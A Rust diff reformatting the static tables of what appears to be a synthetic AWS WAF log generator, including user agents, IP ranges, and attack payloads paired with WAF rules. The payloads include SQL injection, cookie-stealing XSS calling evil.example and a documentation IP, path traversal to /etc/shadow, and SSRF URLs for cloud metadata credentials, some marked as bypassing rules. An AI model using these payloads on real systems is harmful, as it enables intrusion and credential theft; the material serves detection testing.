@@ -118,18 +118,54 @@ impl Ep {
 
 /// Desktop and mobile browser user agents (2024 releases) with rough market weights.
 pub(crate) static BROWSER_UAS: &[(&str, u32)] = &[
-    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36", 30),
-    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36", 12),
-    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36", 10),
-    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15", 9),
-    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.80", 7),
-    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0", 6),
-    ("Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0", 2),
-    ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36", 2),
-    ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Mobile/15E148 Safari/604.1", 12),
-    ("Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Mobile Safari/537.36", 9),
-    ("Mozilla/5.0 (Linux; Android 14; SAMSUNG SM-S921B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/25.0 Chrome/121.0.0.0 Mobile Safari/537.36", 3),
-    ("Mozilla/5.0 (iPad; CPU OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1", 2),
+    (
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
+        30,
+    ),
+    (
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36",
+        12,
+    ),
+    (
+        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
+        10,
+    ),
+    (
+        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15",
+        9,
+    ),
+    (
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.80",
+        7,
+    ),
+    (
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0",
+        6,
+    ),
+    (
+        "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
+        2,
+    ),
+    (
+        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
+        2,
+    ),
+    (
+        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Mobile/15E148 Safari/604.1",
+        12,
+    ),
+    (
+        "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Mobile Safari/537.36",
+        9,
+    ),
+    (
+        "Mozilla/5.0 (Linux; Android 14; SAMSUNG SM-S921B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/25.0 Chrome/121.0.0.0 Mobile Safari/537.36",
+        3,
+    ),
+    (
+        "Mozilla/5.0 (iPad; CPU OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
+        2,
+    ),
 ];
 
 /// The shop's own app, current and old versions. Old versions (3.x) still call the
@@ -162,19 +198,47 @@ pub(crate) static PARTNER_UAS: &[&str] = &[
 
 /// Fictional partner companies (well-worn placeholder names).
 pub(crate) static PARTNER_NAMES: &[&str] = &[
-    "northwind", "acme-logistics", "globex", "initech", "umbrella-retail", "stark-supply",
-    "wayne-freight", "tyrell-parts", "cyberdyne-ship", "hooli-market", "vandelay-import",
-    "soylent-foods", "wonka-sweets", "oceanic-air", "monarch-sell", "blue-sun", "duff-dist",
-    "krusty-co", "gringotts-pay", "pied-piper",
+    "northwind",
+    "acme-logistics",
+    "globex",
+    "initech",
+    "umbrella-retail",
+    "stark-supply",
+    "wayne-freight",
+    "tyrell-parts",
+    "cyberdyne-ship",
+    "hooli-market",
+    "vandelay-import",
+    "soylent-foods",
+    "wonka-sweets",
+    "oceanic-air",
+    "monarch-sell",
+    "blue-sun",
+    "duff-dist",
+    "krusty-co",
+    "gringotts-pay",
+    "pied-piper",
 ];
 
 /// Internal services: name, user agent, relative request weight.
 pub(crate) static SERVICES: &[(&str, &str, u32)] = &[
-    ("svc-notifications", "svc-notifications/3.2.0 (go1.22.2)", 16),
+    (
+        "svc-notifications",
+        "svc-notifications/3.2.0 (go1.22.2)",
+        16,
+    ),
     ("svc-inventory", "svc-inventory/1.18.4 (Java/21.0.2)", 22),
-    ("svc-search-indexer", "svc-search-indexer/0.9.12 python-httpx/0.27.0", 14),
+    (
+        "svc-search-indexer",
+        "svc-search-indexer/0.9.12 python-httpx/0.27.0",
+        14,
+    ),
     ("svc-fraud", "svc-fraud/2.8.0 (go1.22.2)", 18),
-    ("svc-recommender", "svc-recommender/4.1.3 python-httpx/0.27.0", 16),
+    (
+        "svc-recommender",
+        "svc-recommender/4.1.3 python-httpx/0.27.0",
+        16,
+    ),
     ("svc-billing", "svc-billing/7.0.1 (Java/17.0.10)", 8),
     ("svc-analytics", "Go-http-client/1.1", 6),
 ];
@@ -184,23 +248,65 @@ pub(crate) const ELB_UA: &str = "ELB-HealthChecker/2.0";
 pub(crate) const KUBE_UA: &str = "kube-probe/1.29";
 
 pub(crate) static CATEGORIES: &[&str] = &[
-    "electronics", "computers", "phones", "home-garden", "kitchen", "books", "toys", "sports",
-    "fashion", "beauty", "grocery", "pet-supplies", "automotive", "office", "baby",
+    "electronics",
+    "computers",
+    "phones",
+    "home-garden",
+    "kitchen",
+    "books",
+    "toys",
+    "sports",
+    "fashion",
+    "beauty",
+    "grocery",
+    "pet-supplies",
+    "automotive",
+    "office",
+    "baby",
 ];
 
 pub(crate) static SEARCH_TERMS: &[&str] = &[
-    "laptop", "usb c cable", "running shoes", "coffee grinder", "headphones", "4k monitor",
-    "standing desk", "lego", "air fryer", "e-reader", "yoga mat", "phone case", "rain jacket",
-    "dog food", "gift card", "sneakers size 42", "mechanical keyboard", "baby stroller", "tent",
-    "ssd 2tb", "desk lamp", "wireless mouse", "protein powder", "board games",
-    "camera lens 50mm", "t-shirt", "water bottle", "kids bike", "garden hose", "o'reilly",
-    "espresso machine", "winter boots", "bluetooth speaker", "office chair", "hdmi 2.1",
+    "laptop",
+    "usb c cable",
+    "running shoes",
+    "coffee grinder",
+    "headphones",
+    "4k monitor",
+    "standing desk",
+    "lego",
+    "air fryer",
+    "e-reader",
+    "yoga mat",
+    "phone case",
+    "rain jacket",
+    "dog food",
+    "gift card",
+    "sneakers size 42",
+    "mechanical keyboard",
+    "baby stroller",
+    "tent",
+    "ssd 2tb",
+    "desk lamp",
+    "wireless mouse",
+    "protein powder",
+    "board games",
+    "camera lens 50mm",
+    "t-shirt",
+    "water bottle",
+    "kids bike",
+    "garden hose",
+    "o'reilly",
+    "espresso machine",
+    "winter boots",
+    "bluetooth speaker",
+    "office chair",
+    "hdmi 2.1",
 ];
 
 pub(crate) static FIRST_NAMES: &[&str] = &[
-    "maria", "james", "anna", "john", "sofia", "li", "mohammed", "emma", "lucas", "olivia",
-    "noah", "mia", "liam", "ava", "elena", "david", "sara", "daniel", "laura", "ahmed", "chen",
-    "julia", "marco", "nina", "omar", "paula", "raj", "yuki", "igor", "fatima",
+    "maria", "james", "anna", "john", "sofia", "li", "mohammed", "emma", "lucas", "olivia", "noah",
+    "mia", "liam", "ava", "elena", "david", "sara", "daniel", "laura", "ahmed", "chen", "julia",
+    "marco", "nina", "omar", "paula", "raj", "yuki", "igor", "fatima",
 ];
 pub(crate) static LAST_NAMES: &[&str] = &[
     "smith", "garcia", "mueller", "rossi", "kim", "nguyen", "silva", "kowalski", "jensen",
@@ -208,25 +314,83 @@ pub(crate) static LAST_NAMES: &[&str] = &[
     "ivanova", "hansen", "weber", "costa", "murphy", "fischer",
 ];
 pub(crate) static MAIL_DOMAINS: &[&str] = &[
-    "gmail.com", "yahoo.com", "hotmail.com", "outlook.com", "icloud.com", "gmx.de", "web.de",
-    "aol.com", "proton.me", "mail.ru", "yandex.ru", "orange.fr",
+    "gmail.com",
+    "yahoo.com",
+    "hotmail.com",
+    "outlook.com",
+    "icloud.com",
+    "gmx.de",
+    "web.de",
+    "aol.com",
+    "proton.me",
+    "mail.ru",
+    "yandex.ru",
+    "orange.fr",
 ];
 
 /// First octets of consumer ISP address space, with the country the WAF logs for them.
 pub(crate) static RESIDENTIAL_NETS: &[(u8, &str)] = &[
-    (24, "US"), (67, "US"), (71, "US"), (73, "US"), (98, "US"), (174, "US"), (76, "US"),
-    (81, "GB"), (86, "GB"), (92, "GB"), (2, "FR"), (90, "FR"), (109, "FR"), (84, "DE"),
-    (87, "DE"), (93, "DE"), (79, "IT"), (151, "IT"), (83, "ES"), (88, "ES"), (77, "NL"),
-    (94, "SE"), (89, "PL"), (177, "BR"), (187, "BR"), (49, "IN"), (110, "JP"), (121, "KR"),
+    (24, "US"),
+    (67, "US"),
+    (71, "US"),
+    (73, "US"),
+    (98, "US"),
+    (174, "US"),
+    (76, "US"),
+    (81, "GB"),
+    (86, "GB"),
+    (92, "GB"),
+    (2, "FR"),
+    (90, "FR"),
+    (109, "FR"),
+    (84, "DE"),
+    (87, "DE"),
+    (93, "DE"),
+    (79, "IT"),
+    (151, "IT"),
+    (83, "ES"),
+    (88, "ES"),
+    (77, "NL"),
+    (94, "SE"),
+    (89, "PL"),
+    (177, "BR"),
+    (187, "BR"),
+    (49, "IN"),
+    (110, "JP"),
+    (121, "KR"),
 ];
 /// First octets of mobile-carrier egress ranges.
-pub(crate) static CARRIER_NETS: &[(u8, &str)] =
-    &[(172, "US"), (166, "US"), (107, "US"), (31, "GB"), (80, "DE"), (37, "FR"), (46, "IT")];
+pub(crate) static CARRIER_NETS: &[(u8, &str)] = &[
+    (172, "US"),
+    (166, "US"),
+    (107, "US"),
+    (31, "GB"),
+    (80, "DE"),
+    (37, "FR"),
+    (46, "IT"),
+];
 /// First octets of cloud and VPS providers (partners' jobs, attack infrastructure).
 pub(crate) static DATACENTER_NETS: &[(u8, &str)] = &[
-    (3, "US"), (18, "US"), (34, "US"), (35, "US"), (52, "US"), (54, "IE"), (13, "US"),
-    (45, "NL"), (104, "US"), (138, "DE"), (139, "SG"), (159, "US"), (161, "US"), (167, "DE"),
-    (178, "RU"), (185, "NL"), (188, "RO"), (193, "UA"), (194, "CN"), (195, "BG"),
+    (3, "US"),
+    (18, "US"),
+    (34, "US"),
+    (35, "US"),
+    (52, "US"),
+    (54, "IE"),
+    (13, "US"),
+    (45, "NL"),
+    (104, "US"),
+    (138, "DE"),
+    (139, "SG"),
+    (159, "US"),
+    (161, "US"),
+    (167, "DE"),
+    (178, "RU"),
+    (185, "NL"),
+    (188, "RO"),
+    (193, "UA"),
+    (194, "CN"),
+    (195, "BG"),
 ];
 
 /// The country AWS WAF would log for an address (by first octet in the tables above).
@@ -475,20 +639,38 @@ const fn b(text: &'static str, rules: &'static [WafRule]) -> Payload {
 pub(crate) static INJECTIONS: &[Payload] = &[
     q("' OR '1'='1", &[SQLI_ARGS]),
     q("1' OR 1=1-- -", &[SQLI_ARGS]),
-    q("1 UNION SELECT username,password_hash,email FROM users--", &[SQLI_ARGS]),
+    q(
+        "1 UNION SELECT username,password_hash,email FROM users--",
+        &[SQLI_ARGS],
+    ),
     q("1; DROP TABLE orders;--", &[SQLI_ARGS]),
     q("' AND SLEEP(5)-- ", &[SQLI_ARGS]),
-    q("1' AND extractvalue(1,concat(0x7e,(SELECT version())))-- ", &[SQLI_ARGS]),
-    qe("1%27%20AND%201%3D1%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CNULL--%20-", &[SQLI_ARGS]),
+    q(
+        "1' AND extractvalue(1,concat(0x7e,(SELECT version())))-- ",
+        &[SQLI_ARGS],
+    ),
+    qe(
+        "1%27%20AND%201%3D1%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CNULL--%20-",
+        &[SQLI_ARGS],
+    ),
     b("admin'--", &[SQLI_BODY]),
     b("x\" OR \"1\"=\"1", &[SQLI_BODY]),
     // JSON-operator SQL: the WAF-bypass class published in 2022; no rule matches.
     b("1 OR JSON_EXTRACT('{\"a\":1}','$.a')=1", &[]),
     q("<script>alert(document.cookie)</script>", &[XSS_ARGS]),
     q("\"><img src=x onerror=alert(1)>", &[XSS_ARGS]),
-    q("<svg/onload=fetch('//evil.example/c?'+document.cookie)>", &[XSS_ARGS]),
-    b("<script>new Image().src=\"http://198.51.100.23/c?\"+document.cookie</script>", &[XSS_BODY]),
-    b("Great product!\r\n<iframe src=\"javascript:alert(`xss`)\"></iframe>", &[XSS_BODY]),
+    q(
+        "<svg/onload=fetch('//evil.example/c?'+document.cookie)>",
+        &[XSS_ARGS],
+    ),
+    b(
+        "<script>new Image().src=\"http://198.51.100.23/c?\"+document.cookie</script>",
+        &[XSS_BODY],
+    ),
+    b(
+        "Great product!\r\n<iframe src=\"javascript:alert(`xss`)\"></iframe>",
+        &[XSS_BODY],
+    ),
     q("../../../../etc/passwd", &[LFI_ARGS, OS_FILE]),
     qe("..%2f..%2f..%2f..%2fetc%2fpasswd", &[LFI_ARGS, OS_FILE]),
     q("....//....//....//etc/shadow", &[LFI_ARGS, OS_FILE]),
@@ -530,7 +712,11 @@ pub(crate) struct SsrfTarget {
     pub body_rules: &'static [WafRule],
 }
 
-const fn ssrf(url: &'static str, query_rules: &'static [WafRule], body_rules: &'static [WafRule]) -> SsrfTarget {
+const fn ssrf(
+    url: &'static str,
+    query_rules: &'static [WafRule],
+    body_rules: &'static [WafRule],
+) -> SsrfTarget {
     SsrfTarget {
         url,
         query_rules,
@@ -539,29 +725,61 @@ const fn ssrf(url: &'static str, query_rules: &'static [WafRule], body_rules: &'
 }
 
 pub(crate) static SSRF_TARGETS: &[SsrfTarget] = &[
-    ssrf("http://169.254.169.254/latest/meta-data/", &[SSRF_METADATA_ARGS], &[SSRF_METADATA_BODY]),
+    ssrf(
+        "http://169.254.169.254/latest/meta-data/",
+        &[SSRF_METADATA_ARGS],
+        &[SSRF_METADATA_BODY],
+    ),
     ssrf(
         "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
         &[SSRF_METADATA_ARGS],
         &[SSRF_METADATA_BODY],
     ),
-    ssrf("http://169.254.169.254/latest/user-data", &[SSRF_METADATA_ARGS], &[SSRF_METADATA_BODY]),
+    ssrf(
+        "http://169.254.169.254/latest/user-data",
+        &[SSRF_METADATA_ARGS],
+        &[SSRF_METADATA_BODY],
+    ),
     ssrf(
         "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
         &[SSRF_METADATA_ARGS],
         &[SSRF_METADATA_BODY],
     ),
-    ssrf("http://100.100.100.200/latest/meta-data/", &[SSRF_IP_ARGS], &[SSRF_IP_BODY]),
-    ssrf("http://10.0.0.1:8080/actuator/env", &[SSRF_IP_ARGS], &[SSRF_IP_BODY]),
-    ssrf("http://10.20.4.17:9200/_cat/indices", &[SSRF_IP_ARGS], &[SSRF_IP_BODY]),
-    ssrf("http://172.17.0.1:2375/containers/json", &[SSRF_IP_ARGS], &[SSRF_IP_BODY]),
+    ssrf(
+        "http://100.100.100.200/latest/meta-data/",
+        &[SSRF_IP_ARGS],
+        &[SSRF_IP_BODY],
+    ),
+    ssrf(
+        "http://10.0.0.1:8080/actuator/env",
+        &[SSRF_IP_ARGS],
+        &[SSRF_IP_BODY],
+    ),
+    ssrf(
+        "http://10.20.4.17:9200/_cat/indices",
+        &[SSRF_IP_ARGS],
+        &[SSRF_IP_BODY],
+    ),
+    ssrf(
+        "http://172.17.0.1:2375/containers/json",
+        &[SSRF_IP_ARGS],
+        &[SSRF_IP_BODY],
+    ),
     ssrf("http://127.0.0.1:6379/", &[SSRF_IP_ARGS], &[SSRF_IP_BODY]),
     ssrf("http://192.168.1.1/admin", &[SSRF_IP_ARGS], &[SSRF_IP_BODY]),
     ssrf("http://localhost:22/", &[], &[]),
     ssrf("http://[::1]:8500/v1/agent/self", &[], &[]),
     ssrf("file:///etc/passwd", &[OS_FILE], &[OS_FILE]),
-    ssrf("gopher://127.0.0.1:6379/_FLUSHALL", &[SSRF_IP_ARGS], &[SSRF_IP_BODY]),
-    ssrf("dict://127.0.0.1:11211/stats", &[SSRF_IP_ARGS], &[SSRF_IP_BODY]),
+    ssrf(
+        "gopher://127.0.0.1:6379/_FLUSHALL",
+        &[SSRF_IP_ARGS],
+        &[SSRF_IP_BODY],
+    ),
+    ssrf(
+        "dict://127.0.0.1:11211/stats",
+        &[SSRF_IP_ARGS],
+        &[SSRF_IP_BODY],
+    ),
     // Encodings of 169.254.169.254 and DNS tricks that slip past pattern rules.
     ssrf("http://2852039166/latest/meta-data/", &[], &[]),
     ssrf("http://0xa9fea9fe/latest/meta-data/", &[], &[]),
